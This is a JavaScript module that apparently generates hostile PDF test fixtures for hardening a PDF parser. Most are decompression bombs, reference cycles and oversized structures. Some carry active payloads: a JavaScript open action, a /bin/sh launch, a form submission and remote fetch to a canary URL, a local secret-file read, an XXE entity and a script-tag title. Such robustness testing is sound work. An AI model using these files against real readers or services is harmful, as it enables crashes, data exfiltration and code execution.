// PDF files that are made to hurt their reader. Written by hand, with or without a true table of objects.
import { deflateSync } from 'node:zlib';

/** Assembles objects by number, as text or buffers; `trailer` adds to or replaces the trailer. */
function pdf(objects, { trailer = '/Root 1 0 R', table = true, startxref } = {}) {
  const pieces = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets = new Map();
  let at = pieces[0].length;
  for (const [number, content] of Object.entries(objects)) {
    const piece = Buffer.concat([Buffer.from(`${number} 0 obj\n`), Buffer.from(content), Buffer.from('\nendobj\n')]);
    offsets.set(Number(number), at);
    at += piece.length;
    pieces.push(piece);
  }
  const size = Math.min([...offsets.keys()].at(-1) + 1, 1_000_000);
  const lines = Array.from({ length: size }, (_, n) =>
    offsets.has(n) ? `${String(offsets.get(n)).padStart(10, '0')} 00000 n ` : '0000000000 65535 f ',
  );
  const list = table ? `xref\n0 ${size}\n${lines.join('\n')}\n` : '';
  pieces.push(Buffer.from(`${list}trailer\n<< /Size ${size} ${trailer} >>\nstartxref\n${startxref ?? at}\n%%EOF\n`));
  return Buffer.concat(pieces);
}

const stream = (content, dictionary = '') => {
  const bytes = Buffer.from(content);
  return Buffer.concat([
    Buffer.from(`<< /Length ${bytes.length} ${dictionary} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
};
const packed = (content, dictionary = '') =>
  stream(deflateSync(Buffer.from(content)), `/Filter /FlateDecode ${dictionary}`);
const words =
  'BT /F1 12 Tf 72 700 Td (Robin Reader) Tj 0 -20 Td (robin@example.com) Tj 0 -20 Td (Clerk, Example Freight, 2019 - 2024) Tj ET';
const form = '/Type /XObject /Subtype /Form /BBox [0 0 9 9]';
const system = '<< /Registry (Adobe) /Ordering (Identity) /Supplement 0 >>';
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const page = (more = '', resources = '/Font << /F1 5 0 R >>') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << ${resources} >> ${more} >>`;

const one = (changed = {}, options) =>
  pdf(
    {
      1: '<< /Type /Catalog /Pages 2 0 R >>',
      2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      3: page(),
      4: stream(words),
      5: font,
      ...changed,
    },
    options,
  );

/** The same bytes packed again and again. */
const packedTimes = (bytes, times) => Array.from({ length: times }).reduce((inner) => deflateSync(inner), bytes);

export function hostilePdfFiles({ canary, secretFile }) {
  const files = {
    'a flate bomb': one({ 4: packed(Buffer.alloc(200_000_000, 32)) }),
    'a flate bomb of drawing': one({ 4: packed('0 0 m 9 9 l S '.repeat(3_000_000)) }),
    'flate in flate': one({
      4: stream(packedTimes(Buffer.alloc(100_000_000, 32), 3), '/Filter [/FlateDecode /FlateDecode /FlateDecode]'),
    }),
    'a hundred filters': one({ 4: stream(words, `/Filter [${'/ASCIIHexDecode '.repeat(100)}]`) }),
    'a bomb in run lengths': one({
      4: packed(Buffer.alloc(2_000_000, 0x81), '')
        .toString('latin1')
        .replace('/FlateDecode', '[/FlateDecode /RunLengthDecode]'),
    }),
    'a predictor of any width': one({
      4: packed(words, '/DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 9999 >>'),
    }),
    'lzw of nothing': one({ 4: stream(Buffer.alloc(100_000, 0xff), '/Filter /LZWDecode') }),
    'pages in a ring': one({ 2: '<< /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 999999999 >>' }),
    'pages below zero': one({ 2: '<< /Type /Pages /Kids [3 0 R] /Count -5 >>' }),
    'two billion pages': one({ 2: '<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>' }),
    'the same page ten thousand times': one({
      2: `<< /Type /Pages /Kids [${'3 0 R '.repeat(10_000)}] /Count 10000 >>`,
    }),
    'a page of a million miles': one({ 3: page('/MediaBox [0 0 1e12 1e12] /UserUnit 1e9') }),
    'a page without size': one({ 3: page('/MediaBox [0 0 0 0] /CropBox [9 9 -9 -9]') }),
    'a page turned by NaN': one({ 3: page('/Rotate 1e400') }),
    'contents in a ring': one({ 4: '[4 0 R 4 0 R]' }),
    'contents a million times': one({
      3: page(`/Contents [${'4 0 R '.repeat(100_000)}]`).replace('/Contents 4 0 R', ''),
    }),
    'a form in itself': one({
      4: stream('/X Do'),
      3: page('', '/XObject << /X 6 0 R >>'),
      6: stream(
        '/X Do /X Do',
        '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>',
      ),
    }),
    'forms that double': one({
      4: stream('/X Do'),
      3: page('', '/XObject << /X 6 0 R >>'),
      ...Object.fromEntries(
        Array.from({ length: 28 }, (_, n) => [
          6 + n,
          stream(
            n === 27 ? words : '/X Do /X Do',
            `/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> /XObject << /X ${7 + n} 0 R >> >>`,
          ),
        ]),
      ),
    }),
    'a pattern of tiny tiles': one({
      3: page('', '/Pattern << /P 6 0 R >> /Font << /F1 5 0 R >>'),
      4: stream(`/Pattern cs /P scn 0 0 612 792 re f ${words}`),
      6: stream(
        '0 0 1 1 re f',
        '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources << >>',
      ),
    }),
    'an image of 60,000 by 60,000': one({
      3: page('', '/XObject << /X 6 0 R >> /Font << /F1 5 0 R >>'),
      4: stream(`612 0 0 792 0 0 cm /X Do ${words}`),
      6: packed(
        Buffer.alloc(100),
        '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8',
      ),
    }),
    'an image in code that is none': one({
      3: page('', '/XObject << /X 6 0 R /Y 7 0 R /Z 8 0 R >> /Font << /F1 5 0 R >>'),
      4: stream(`/X Do /Y Do /Z Do ${words}`),
      6: stream(
        Buffer.alloc(3_000, 0xff),
        '/Type /XObject /Subtype /Image /Width 9000 /Height 9000 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode',
      ),
      7: stream(
        Buffer.alloc(3_000, 0x4f),
        '/Type /XObject /Subtype /Image /Width 9000 /Height 9000 /Filter /JPXDecode',
      ),
      8: stream(
        Buffer.alloc(3_000, 0xd8),
        '/Type /XObject /Subtype /Image /Width 9000 /Height 9000 /ColorSpace /DeviceCMYK /BitsPerComponent 8 /Filter /DCTDecode',
      ),
    }),
    'a soft mask in itself': one({
      3: page('', '/ExtGState << /G << /SMask << /S /Alpha /G 6 0 R >> >> >> /Font << /F1 5 0 R >>'),
      4: stream(`/G gs ${words}`),
      6: stream(
        '/G gs 0 0 9 9 re f',
        `${form} /Group << /S /Transparency >> /Resources << /ExtGState << /G << /SMask << /S /Alpha /G 6 0 R >> >> >> >>`,
      ),
    }),
    'a function of functions': one({
      3: page(
        '',
        '/Shading << /S << /ShadingType 1 /ColorSpace /DeviceRGB /Function 6 0 R >> >> /Font << /F1 5 0 R >>',
      ),
      4: stream(`/S sh ${words}`),
      6: '<< /FunctionType 3 /Domain [0 1] /Functions [6 0 R 6 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>',
    }),
    'a million saved states': one({ 4: stream(`${'q '.repeat(500_000)}${words}`) }),
    'a million restored states': one({ 4: stream(`${'Q '.repeat(500_000)}${words}`) }),
    'words without end': one({ 4: stream(`BT /F1 12 Tf (${'a'.repeat(3_000_000)}) Tj ET`) }),
    'words on one spot': one({ 4: packed(`BT /F1 12 Tf 72 700 Td ${'(Reader) Tj 0 0 Td '.repeat(200_000)} ET`) }),
    'letters scattered': one({
      4: packed(
        `BT /F1 1 Tf ${Array.from({ length: 60_000 }, (_, n) => `1 0 0 1 ${(n * 7919) % 612} ${(n * 104729) % 792} Tm (a) Tj`).join(' ')} ET`,
      ),
    }),
    'words far away': one({ 4: stream('BT /F1 12 Tf 1e30 -1e30 Td (a) Tj 1e308 1e308 Td (b) Tj ET') }),
    'letters of any size': one({
      4: stream(`BT /F1 1e20 Tf 0 0 Td (a) Tj /F1 1e-20 Tf (b) Tj /F1 0 Tf (c) Tj ET ${words}`),
    }),
    'a matrix of nothing': one({ 4: stream(`0 0 0 0 0 0 cm ${words}`) }),
    'a map of all characters': one({
      5: '<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts [7 0 R] /ToUnicode 6 0 R >>',
      6: stream(
        `begincmap 1 begincodespacerange <0000> <ffff> endcodespacerange 100 beginbfrange ${'<00000000> <ffffffff> <0041> '.repeat(100)} endbfrange endcmap`,
      ),
      7: `<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo ${system} /DW 1e9 /W [0 4294967295 1000] >>`,
    }),
    'a font that is a bomb': one({
      5: '<< /Type /Font /Subtype /TrueType /BaseFont /A /FontDescriptor 6 0 R >>',
      6: '<< /Type /FontDescriptor /FontName /A /FontFile2 7 0 R /Flags 32 >>',
      7: packed(Buffer.alloc(100_000_000)),
    }),
    'a font that draws itself': one({
      5: [
        '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >>',
        '/Encoding << /Differences [0 /a 97 /a 82 /a] >> /FirstChar 0 /LastChar 255 /Widths [9]',
        '/Resources << /Font << /F1 5 0 R >> >> >>',
      ].join(' '),
      6: stream('9 0 d0 BT /F1 9 Tf (aaa) Tj ET'),
    }),
    'arrays in arrays': one({ 6: `${'['.repeat(200_000)}${']'.repeat(200_000)}` }),
    'dictionaries in dictionaries': one({
      1: `<< /Type /Catalog /Pages 2 0 R /A ${'<</A '.repeat(60_000)} null ${'>>'.repeat(60_000)} >>`,
    }),
    'a reference in a ring': one({ 4: '6 0 R', 6: '7 0 R', 7: '6 0 R' }),
    'a length in a ring': one({ 4: `<< /Length 4 0 R >>\nstream\n${words}\nendstream` }),
    'a length of two gigabytes': one({ 4: `<< /Length 2147483647 >>\nstream\n${words}\nendstream` }),
    'tables in a ring': one({}, { trailer: '/Root 1 0 R /Prev 9' }),
    'a table of itself': one({}, { startxref: 0 }),
    'a table at minus one': one({}, { startxref: -1 }),
    'no table': one({}, { table: false }),
    'no root': one({}, { trailer: '' }),
    'a root that is a number': one({ 1: '42' }),
    'a million objects': one(Object.fromEntries(Array.from({ length: 150_000 }, (_, n) => [n + 6, 'null']))),
    'an object number of four billion': one({ 4294967294: 'null' }, { table: false }),
    'objects in a stream in itself': one({
      6: stream('6 0 << >>', '/Type /ObjStm /N 99999999 /First 4 /Extends 6 0 R'),
    }),
    'encrypted by nobody': one(
      { 6: '<< /Filter /Standard /V 5 /R 6 /Length 99999 /O () /U () /P -1 >>' },
      { trailer: '/Root 1 0 R /Encrypt 6 0 R /ID [() ()]' },
    ),
    'encrypted by a stranger': one({ 6: '<< /Filter /Nobody /V 99 >>' }, { trailer: '/Root 1 0 R /Encrypt 6 0 R' }),
    'a script at the opening': one({
      1: `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${canary}js"\\)) >> >>`,
    }),
    'a launch at the opening': one({
      1: '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) >> >>',
    }),
    'a form sent away': one({
      1: `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F (${canary}form) >> >>`,
    }),
    'contents in another file': one({ 4: `<< /Length 0 /F (${secretFile}) >>\nstream\n\nendstream` }),
    'contents at another address': one({
      4: `<< /Length 0 /F << /FS /URL /F (${canary}contents) >> >>\nstream\n\nendstream`,
    }),
    'a hundred thousand links': one({
      3: page(
        `/Annots [${`<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (${canary}link) >> >> `.repeat(30_000)}]`,
      ),
    }),
    'outlines in a ring': one({
      1: '<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>',
      6: '<< /First 6 0 R /Next 6 0 R /Last 6 0 R /Count 999999 >>',
    }),
    'names in a ring': one({
      1: '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 6 0 R >> >>',
      6: '<< /Kids [6 0 R 6 0 R] >>',
    }),
    'a structure in a ring': one({
      1: '<< /Type /Catalog /Pages 2 0 R /StructTreeRoot 6 0 R /MarkInfo << /Marked true >> >>',
      6: '<< /K [6 0 R] /ParentTree 6 0 R >>',
    }),
    xfa: one({
      1: '<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 6 0 R /Fields [7 0 R] >> >>',
      6: stream(`<!DOCTYPE a [<!ENTITY x SYSTEM "${canary}xfa">]><a>&x;</a>`),
      7: '<< /FT /Tx /Kids [7 0 R] /Parent 7 0 R >>',
    }),
    'a title that is a script': one(
      { 6: '<< /Title (<script>alert\\(1\\)</script>) /Author (\\000\\001) >>' },
      { trailer: '/Root 1 0 R /Info 6 0 R' },
    ),
    'layers in a ring': one({
      1: '<< /Type /Catalog /Pages 2 0 R /OCProperties << /OCGs [6 0 R] /D << /Order [6 0 R] >> >> >>',
      6: '[6 0 R 6 0 R]',
    }),
    'a version of tomorrow': Buffer.from(one().toString('latin1').replace('%PDF-1.7', '%PDF-9.9'), 'latin1'),
    'two headers': Buffer.concat([one(), one()]),
    'a header after a kilobyte': Buffer.concat([Buffer.alloc(2_000, 10), one()]),
    'ten megabytes of nothing': Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(9_000_000)]),
  };
  return Object.entries(files).map(([name, bytes]) => ({ name: `${name}.pdf`, bytes }));
}
